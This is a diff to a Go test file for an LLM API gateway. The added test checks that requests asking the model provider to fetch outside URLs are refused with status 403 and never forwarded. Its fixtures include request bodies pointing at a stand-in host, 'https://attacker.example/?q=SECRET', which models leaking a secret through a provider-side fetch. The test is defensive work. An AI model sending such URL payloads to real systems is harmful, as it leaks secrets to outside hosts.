@@ -811,3 +811,31 @@ func TestTheTypeOfAnAnswerChangesNoPrice(t *testing.T) {
 		}
 	}
 }
+
+// TestNothingIsFetchedThroughTheGateway: what would have the provider fetch does not leave, neither to be answered nor
+// to have its tokens counted, and the person is told what it was.
+func TestNothingIsFetchedThroughTheGateway(t *testing.T) {
+	asked := 0
+	at := endpoint(t, func(_ http.ResponseWriter, r *http.Request) {
+		if raw, _ := io.ReadAll(r.Body); len(raw) > 0 {
+			asked++
+		}
+	})
+	r := serve(t, gateway.Config{Providers: providers(at)})
+	const block = `{"model":"mock-model","messages":[{"role":"user","content":[{"type":"image","source":{"type":"url","url":"https://attacker.example/?q=SECRET"}}]}]}`
+	for _, c := range []struct{ method, path, body string }{
+		{"POST", "/anthropic/v1/messages", block}, {"POST", "/anthropic/v1/messages/count_tokens", block},
+		{"POST", "/gemini/v1beta/models/m:countTokens", `{"contents":[{"parts":[{"fileData":{"fileUri":"https://attacker.example/"}}]}]}`},
+		{"POST", "/openai/v1/chat/completions", `{"model":"mock-model","plugins":[{"id":"web"}]}`},
+		{"GET", "/openai/v1/models", `{"url":"https://attacker.example/"}`},
+	} {
+		if status, body, _ := r.do(c.method, c.path, c.body); (status != 403) != (c.method == "GET") || asked != 0 {
+			t.Errorf("%s %s: %d %s, %d went out", c.method, c.path, status, body, asked)
+		}
+	}
+	r.stop()
+	if err := r.lane.Err(); pawl.CodeOf(err) != pawl.CodeDenied {
+		t.Errorf("the lane tells %v", err)
+	}
+	r.host.check(t, 0)
+}
